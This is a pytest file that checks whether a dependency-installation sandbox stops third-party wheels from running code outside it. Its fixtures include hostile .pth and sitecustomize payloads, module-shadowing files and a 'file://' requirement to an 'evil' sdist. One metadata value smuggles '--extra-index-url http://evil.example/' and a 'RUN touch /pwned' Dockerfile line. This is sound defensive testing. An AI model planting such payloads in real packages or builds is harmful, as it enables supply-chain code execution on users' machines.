"""Dependencies are strangers' files: none of their code runs outside a sandbox, neither while they are installed nor later."""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from package_index import build_backend, write_sdist, write_wheel

from composer_replication.sandbox import Command, Tree, open_sandbox
from composer_replication.sandbox.interpreter import installation_of
from composer_replication.sandbox.request import WARM_FLAGS
from composer_replication.tasks.exchange.pins import pins_of
from composer_replication.tasks.sources.declared import declared_requirements
from composer_replication.tasks.sources.environment import make_environment
from composer_replication.tasks.sources.installed import check_installed, check_wheel, contents
from composer_replication.tasks.sources.wanted import first_wanted
from composer_replication.types import Deletion, TaskSpec
from composer_replication.types.errors import SourceError, TaskError

WriteProject = Callable[[Mapping[str, str]], Path]
PACKAGES = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"


SPEC = TaskSpec(
    task_id="shop/a",
    source="shop",
    source_digest="0" * 64,
    instruction="Bring back a.",
    deleted=(Deletion(path="shop.py", qualname="a", lines=1),),
    fail_to_pass=("test_shop.py::test_a",),
    pass_to_pass=(),
    editable=("shop.py",),
    test_timeout_s=60.0,
)


@pytest.fixture
def project(write_project: WriteProject) -> Path:
    """It needs a distribution of a stranger."""
    return write_project({"requirements.txt": "alpha\n"})


def make(folder: Path, project: Path) -> Path:
    wanted = first_wanted(declared_requirements(project, "shop"), ())
    return make_environment(
        folder, project, "shop", [line for lines in wanted.values() for line in lines], sandbox=open_sandbox()
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    "files",
    [
        {
            "alpha.pth": "# a comment\x0cimport os; RUN\n",
            "sitecustomize.py": "RUN\n",
            "msvcrt.py": "RUN\n",
            "colorama/__init__.py": "RUN\n",
            "argcomplete.py": "RUN\n",
            "not-run-sitecustomize.py.txt/x": "the name that another file is to have",
        },
        {"alpha.pth": "below\n", "below/sitecustomize.py": "RUN\n", "org/__init__.py": "", "org/python/core.py": "RUN\n"},
        {"alpha-9.0.data/data/lib/below/usercustomize/__init__.py": "RUN\n", "alpha.pth": "../../below\n"},
        {f"__pycache__/py.{sys.implementation.cache_tag}.pyc": "COMPILED"},
    ],
    ids=["start", "folder of the start", "data", "compiled part of pytest"],
)
def test_no_code_of_a_wheel_runs_outside_a_sandbox(project: Path, tmp_path: Path, wheels: Path, files: Mapping[str, str]) -> None:
    """Neither while it is installed, nor when the interpreter is asked, nor when it waits for programs of sandboxes."""
    marker = tmp_path / "marker"
    run = f"open({str(marker)!r}, 'w').write('ran')"
    compiled = importlib._bootstrap_external._code_to_hash_pyc(compile(run, "py.py", "exec"), b"\0" * 8, False)  # type: ignore[attr-defined]
    write_wheel(
        wheels,
        "pytest",
        {
            "pytest/__init__.py": "import subprocess, py\ntry:\n    import colorama\nexcept ImportError: pass\n",
            "py.py": "",
            "_pytest/__init__.py": "",
            "_pytest/config.py": "default_plugins = ()\n",
        },
    )
    written = {path: bytes(compiled) if text == "COMPILED" else text.replace("RUN", run) for path, text in files.items()}
    write_wheel(wheels, "alpha", written)
    sandbox, python = open_sandbox(), make(tmp_path / "env", project)
    assert "alpha" in installation_of(python).modules
    assert pins_of(SPEC, project, python).requirements == ("alpha==9.0", "pytest==9.0")
    code = "import sys, alpha; print('pytest' in sys.modules, 'colorama' in sys.modules, alpha.__name__)"
    done = sandbox.run(Tree(base=tmp_path), Command(argv=(str(python), *WARM_FLAGS, code), python=python))
    assert done.stdout.split() == [b"True", b"False", b"alpha"], done.stderr
    assert not marker.exists(), "an installed wheel ran on this machine"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("pluggy.py", "'pluggy.py', which is a part of pluggy"),
        ("alpha/../iniconfig/__init__.py", "is a part of iniconfig"),
        ("alpha-9.0.data/platlib/attr/__init__.py", "is a part of attrs"),
        ("alpha-9.0.data/../other/purelib/pluggy/_manager/__init__.py", "is a part of pluggy"),
        (f"alpha-9.0.data/data/{PACKAGES}/packaging/__init__.py", "is a part of packaging"),
        ("alpha-9.0.data/data/pyvenv.cfg", "replaces pyvenv.cfg of the environment"),
        ("alpha-9.0.data/scripts/python", "replaces bin/python of the environment"),
        ("alpha/..", "cannot be installed"),
    ],
)
def test_a_wheel_that_brings_what_runs_outside_is_refused(
    project: Path, tmp_path: Path, wheels: Path, path: str, reason: str
) -> None:
    write_wheel(wheels, "alpha", {path: "raise SystemExit\n"})
    with pytest.raises(SourceError, match=reason) as caught:
        make(tmp_path / "env", project)
    assert "--python" in (caught.value.fix or "")
    assert not (tmp_path / "env").exists(), "the next try would take it for a complete one"


@pytest.fixture
def environment(tmp_path: Path) -> Path:
    """What `venv` makes, in its outlines."""
    folder = tmp_path / "env"
    (folder / PACKAGES).mkdir(parents=True)
    (folder / "bin").mkdir()
    (folder / "bin" / "python").symlink_to(sys.executable)
    for name in ("pyvenv.cfg", "bin/activate", "bin/pip"):
        (folder / name).write_text("as it was made\n")
    return folder


def write(folder: Path, path: str) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).unlink(missing_ok=True)
    (folder / path).write_text("stranger = 1\n")


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("pyvenv.cfg", "replaces pyvenv.cfg"),
        ("bin/activate", "replaces bin/activate"),
        ("bin/python", "replaces bin/python"),
        ("bin/pyvenv.cfg", "brings 'bin/pyvenv.cfg', where an interpreter may look"),
        ("bin/pybuilddir.txt", "where an interpreter may look"),
        ("bin/python3._pth", "where an interpreter may look"),
        ("lib/python3/dist-packages/x.pth", "where an interpreter may look"),
        ("lib/python3.11/dist-packages/x.pth", "where an interpreter may look"),
        ("lib/python311.zip", "where an interpreter may look"),
        ("local/lib/python3.11/dist-packages/x.pth", "where an interpreter may look"),
        ("lib64/python3.13t/site-packages/x.pth", "where an interpreter may look"),
        ("lib/python3.9/site-packages/x.pth", "brings 'lib/python3.9/site-packages/x.pth'"),
        ("bin/Modules/Setup.local", "where an interpreter may look"),
        ("Lib/os.py", "where an interpreter may look"),
        (f"{PACKAGES}/pygments/styles/new.py", "is a part of pygments"),
        (f"{PACKAGES}/_pytest.abi3.so", "is a part of pytest"),
        (f"{PACKAGES}/py.so", "is a part of pytest"),
        (f"{PACKAGES}/pluggy.cpython-313-x86_64-linux-gnu.so", "is a part of pluggy"),
    ],
)
def test_a_place_where_an_interpreter_looks_is_not_for_dependencies(environment: Path, path: str, reason: str) -> None:
    before = contents(environment, environment / PACKAGES)
    write(environment, path)
    with pytest.raises(SourceError, match=reason):
        check_installed(environment, environment / PACKAGES, before, [], Path(sys.executable))


def test_a_link_is_no_file_of_a_wheel(environment: Path) -> None:
    before = contents(environment, environment / PACKAGES)
    (environment / "share").symlink_to("/usr/share")
    with pytest.raises(SourceError, match="brings 'share'"):
        check_installed(environment, environment / PACKAGES, before, [], Path(sys.executable))


def test_data_scripts_and_packages_are_for_dependencies(environment: Path, tmp_path: Path) -> None:
    before = contents(environment, environment / PACKAGES)
    own = write_wheel(tmp_path, "pytest", {"pytest/__init__.py": "stranger = 1\n", "_pytest/config.py": "stranger = 1\n"})
    paths = ["LICENSE", "bin/alpha", "bin/pip", "etc/alpha/x.json", "share/man/man1/alpha.1", "include/alpha.h", "lib/alpha.so"]
    paths += ["docs/index.md", "tests/test_alpha.py", "usr/share/applications/alpha.desktop", "lib/pythonista/x", "sbin/alpha"]
    names = (
        "alpha.py",
        "alpha-9.0.dist-info/METADATA",
        "pytest/__init__.py",
        "py.typed",
        "pytest.ini",
        "attr.json",
        "pluggy.pyi",
    )
    parts = [f"{PACKAGES}/{name}" for name in names]
    for path in [*paths, *parts, f"{PACKAGES}/_pytest/__pycache__/config.{sys.implementation.cache_tag}.pyc"]:
        write(environment, path)
    check_installed(environment, environment / PACKAGES, before, [own], Path(sys.executable))
    assert all((environment / path).read_text() == "stranger = 1\n" for path in [*paths, *parts])
    assert not list((environment / PACKAGES / "_pytest" / "__pycache__").iterdir()), "a part of pytest that no wheel shows"


def test_folders_without_end_are_refused(tmp_path: Path) -> None:
    """Python's own tools for trees would give up on them."""
    with pytest.raises(SourceError, match=r"alpha-9.0-py3-none-any.whl has folders below 'a/a/.* that are 101 deep"):
        check_wheel(write_wheel(tmp_path, "alpha", {"a/" * 101 + "x": ""}))
    check_wheel(write_wheel(tmp_path, "alpha", {"a/" * 20 + "x": ""}))


@pytest.mark.slow
def test_pip_goes_and_what_begins_with_its_name_stays(tmp_path: Path, wheels: Path, project: Path) -> None:
    write_wheel(wheels, "alpha", {"alpha-9.0.data/scripts/pip-compile": "#!python\n"})
    make(tmp_path / "env", project)
    assert [path.name for path in sorted((tmp_path / "env" / "bin").glob("pip*"))] == ["pip-compile"]
    assert not list((tmp_path / "env" / PACKAGES).glob("pip*"))


@pytest.mark.slow
def test_what_a_distribution_says_of_itself_reaches_no_dockerfile(tmp_path: Path, wheels: Path, project: Path) -> None:
    says = "Metadata-Version: 2.1\nName: evil\nVersion: 1 --extra-index-url http://evil.example/\n RUN touch /pwned\n"
    planted = {"alpha-9.0.data/purelib/evil-1.dist-info/METADATA": says}
    write_wheel(wheels, "alpha", planted, requires=["evil; python_version < '3'"])
    python = make(tmp_path / "env", project)
    with pytest.raises(TaskError, match=r"its name is 'evil' and its version ' +1 --extra-index-url"):
        pins_of(SPEC, project, python)


@pytest.mark.slow
@pytest.mark.parametrize("path", ["shop-0.dist-info", "shop-0.dist-info/METADATA/x"])
def test_the_project_s_own_name_is_not_for_dependencies(tmp_path: Path, wheels: Path, project: Path, path: str) -> None:
    write_wheel(wheels, "alpha", {f"alpha-9.0.data/purelib/{path}": ""})
    with pytest.raises(SourceError, match="a dependency has taken the place of the project's own name"):
        make(tmp_path / "env", project)


@pytest.mark.slow
def test_parts_of_pytest_come_from_their_own_distributions(write_project: WriteProject, tmp_path: Path, wheels: Path) -> None:
    write_wheel(wheels, "attrs", {"attr/__init__.py": ""})
    write_wheel(wheels, "py", {"py/path.py": ""})
    python = make(tmp_path / "env", write_project({"requirements.txt": "attrs\npy\n"}))
    assert {"attr", "attrs", "py"} <= installation_of(python).modules


@pytest.mark.slow
@pytest.mark.parametrize("names", ["a build", "a wheel", "a built wheel"])
def test_nothing_is_taken_from_an_address_that_a_package_names(tmp_path: Path, wheels: Path, project: Path, names: str) -> None:
    """pip would build what it finds there on this machine, `--only-binary` or not; or install a pluggy of the stranger's."""
    marker, elsewhere = tmp_path / "marker", tmp_path / "elsewhere"
    elsewhere.mkdir()
    evil = write_sdist(elsewhere, f"open({str(marker)!r}, 'w')\n", name="evil")
    requirement = f"evil @ file://{evil}"
    if names == "a wheel":
        write_wheel(wheels, "alpha", requires=[requirement])
    else:
        of_the_wheel = f"Requires-Dist: {requirement}\n" if names == "a built wheel" else ""
        write_wheel(wheels, "alpha", requires=["beta"])
        write_sdist(wheels, build_backend(requires=of_the_wheel), f'"{requirement}"' if names == "a build" else "")
    with pytest.raises(SourceError, match=r"address.*evil|evil.*address"):
        make(tmp_path / "env", project)
    assert not marker.exists(), "a package's build ran on this machine"


@pytest.mark.slow
def test_nothing_is_imported_from_the_folder_where_composer_is_started(
    tmp_path: Path, index: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_wheel(index, "alpha")
    for name in ("pip", "venv", "ensurepip", "compileall", "json"):
        (project / f"{name}.py").write_text(f"open({str(tmp_path / 'marker')!r}, 'w')\n")
    monkeypatch.chdir(project)
    make(tmp_path / "env", project)
    assert not (tmp_path / "marker").exists(), "a stranger's module ran on this machine"
